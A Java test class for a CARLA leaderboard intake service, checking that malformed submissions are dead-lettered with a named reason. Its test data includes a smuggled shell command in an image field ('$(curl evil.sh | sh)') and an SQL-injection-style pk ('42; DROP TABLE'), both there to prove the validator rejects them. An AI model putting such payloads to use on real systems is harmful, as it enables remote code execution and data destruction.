package org.carla.leaderboard.ingest;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.ArrayList;
import java.util.List;
import java.util.concurrent.ThreadLocalRandom;
import java.util.stream.Stream;

import org.carla.leaderboard.localstack.evalai.NewSubmission;
import org.carla.leaderboard.messaging.DeadLetter;
import org.carla.leaderboard.messaging.QueuesConfig;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;

import io.quarkus.test.junit.QuarkusTest;
import software.amazon.awssdk.services.sqs.model.Message;

/**
 * Messages that can never be handled end in the dead-letter queue at once, with the reason as an attribute, counted by
 * reason; nothing is launched, nothing recorded, and the intake keeps going.
 */
@QuarkusTest
class DeadLetterTests extends IntakeOnTheStack {

    @Test
    void notJsonIsDeadLetteredAndTheNextSubmissionStillLaunches() {
        double before = deadLettered("malformed-not-json");
        String body = "{\"challenge_pk\": 1, \"phase_pk\": 1187, \"submission_pk\": ";

        intake.announce(body);

        Message dead = deadLetter(body, "malformed-not-json");
        assertThat(IntakeStack.attribute(dead, "dead-letter-error")).contains("not valid JSON");
        assertThat(deadLettered("malformed-not-json")).isEqualTo(before + 1);

        long team = IntakeStack.uniqueTeam();
        var next = stack.evalAi().createSubmission(NewSubmission.of(team, "after", 1187, IntakeStack.IMAGE));
        assertThat(intake.awaitLaunchRequests(1).get(0).submission().submissionPk()).isEqualTo(next.pk());
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("malformedPks")
    void aMalformedAnnouncementIsDeadLetteredNamingTheField(String what, String body, String reason) {
        intake.announce(body);

        Message dead = deadLetter(body, reason);
        assertThat(IntakeStack.attribute(dead, "dead-letter-error")).contains("submission_pk");
        assertNothingHappened();
    }

    static Stream<Arguments> malformedPks() {
        return Stream.of(
                Arguments.of("missing field", "{\"challenge_pk\": 1, \"phase_pk\": 1187, \"submitted_image_uri\": \""
                        + IntakeStack.IMAGE + "\"}", "malformed-missing-field"),
                Arguments.of("non-numeric pk", IntakeStack.announcement(1, 1187, "42; DROP TABLE", IntakeStack.IMAGE),
                        "malformed-wrong-type"),
                Arguments.of("pk out of range",
                        IntakeStack.announcement(1, 1187, "99999999999999999999999", IntakeStack.IMAGE),
                        "malformed-invalid-value"));
    }

    @Test
    void imageThatIsNotAPlainReferenceIsDeadLetteredBeforeAnythingIsWritten() {
        long team = IntakeStack.uniqueTeam();
        int callsBefore = stack.evalAi().calls().size();
        var submission = stack.evalAi().createSubmission(
                NewSubmission.of(team, "hostile", 1187, "registry.example/agent:v1 $(curl evil.sh | sh)"));

        Message dead = deadLetter(null, "malformed-invalid-value");

        assertThat(IntakeStack.attribute(dead, "dead-letter-error")).contains("submitted_image_uri")
                .contains("not a plain registry reference");
        assertThat(stack.evalAi().calls()).hasSize(callsBefore);
        assertThat(intake.record("leaderboard-10", team, submission.pk())).isEmpty();
        assertNothingHappened();
    }

    @Test
    void submissionToLaunchWithoutAnImageIsDeadLettered() {
        long team = IntakeStack.uniqueTeam();
        var submission = stack.evalAi().createSubmission(NewSubmission.of(team, "imageless", 1187, ""));

        Message dead = deadLetter(null, "malformed-missing-field");

        assertThat(IntakeStack.attribute(dead, "dead-letter-error")).contains("submitted_image_uri");
        assertThat(intake.record("leaderboard-10", team, submission.pk())).isEmpty();
        assertNothingHappened();
    }

    @Test
    void unknownPhaseIsDeadLettered() {
        double before = deadLettered("unknown-phase");
        String body = IntakeStack.announcement(1, 424242, 7, IntakeStack.IMAGE);

        intake.announce(body);

        Message dead = deadLetter(body, "unknown-phase");
        assertThat(IntakeStack.attribute(dead, "dead-letter-error")).contains("424242");
        assertThat(deadLettered("unknown-phase")).isEqualTo(before + 1);
        assertNothingHappened();
    }

    @Test
    void submissionEvalAiDoesNotKnowIsDeadLettered() {
        long unknownPk = ThreadLocalRandom.current().nextLong(900_000_000, 999_999_999);
        String body = IntakeStack.announcement(1, 1187, unknownPk, IntakeStack.IMAGE);

        intake.announce(body);

        Message dead = deadLetter(body, "submission-not-found");
        assertThat(IntakeStack.attribute(dead, "dead-letter-error")).contains(Long.toString(unknownPk)).contains("404");
        // A 404 is final: asked once per receive, never again within it. (A loaded machine that stalls the handler
        // past the visibility gets the announcement received again; that receive asks once more and leaves its copy.)
        var copies = new ArrayList<>(List.of(dead));
        copies.addAll(intake.remainingDeadLetters());
        int receives = copies.stream()
                .mapToInt(copy -> Integer.parseInt(IntakeStack.attribute(copy, DeadLetter.RECEIVE_COUNT))).max()
                .getAsInt();
        assertThat(stack.evalAi().calls()).filteredOn(c -> c.path().equals("/api/jobs/submission/" + unknownPk))
                .isNotEmpty().allMatch(c -> c.status() == 404).hasSizeLessThanOrEqualTo(receives);
        assertNothingHappened();
    }

    @Test
    void announcementOnAnotherPhaseThanEvalAiShowsIsDeadLettered() {
        long team = IntakeStack.uniqueTeam();
        // Entered on the gated SENSORS track without the qualifier: not allowed.
        var submission = stack.evalAi().createSubmission(
                NewSubmission.of(team, "sneaky", IntakeStack.GATED_PHASE, IntakeStack.IMAGE));
        intake.awaitSubmissionEvents(1);
        // The same submission announced on an open track must not slip past the gate.
        String body = IntakeStack.announcement(submission.challengePk(), IntakeStack.OPEN_PHASE, submission.pk(),
                IntakeStack.IMAGE);

        intake.announce(body);

        Message dead = deadLetter(body, "phase-mismatch");
        assertThat(IntakeStack.attribute(dead, "dead-letter-error")).contains("2077").contains("1187");
        assertThat(intake.record("leaderboard-10", team, submission.pk())).isEmpty();
        assertNothingHappened();
    }

    private Message deadLetter(String body, String reason) {
        Message dead = intake.awaitDeadLetters(1).get(0);
        if (body != null) {
            assertThat(dead.body()).isEqualTo(body);
        }
        assertThat(IntakeStack.attribute(dead, "dead-letter-reason")).isEqualTo(reason);
        assertThat(IntakeStack.attribute(dead, "source-queue")).isEqualTo(QueuesConfig.SUBMISSIONS);
        return dead;
    }

    private void assertNothingHappened() {
        intake.assertNothingOn(QueuesConfig.LAUNCH_REQUESTS);
        intake.assertNothingOn(QueuesConfig.SUBMISSION_EVENTS);
    }

    private static double deadLettered(String reason) {
        return IntakeStack.metric("leaderboard_queue_dead_lettered_total", "queue", QueuesConfig.SUBMISSIONS,
                "reason", reason);
    }
}
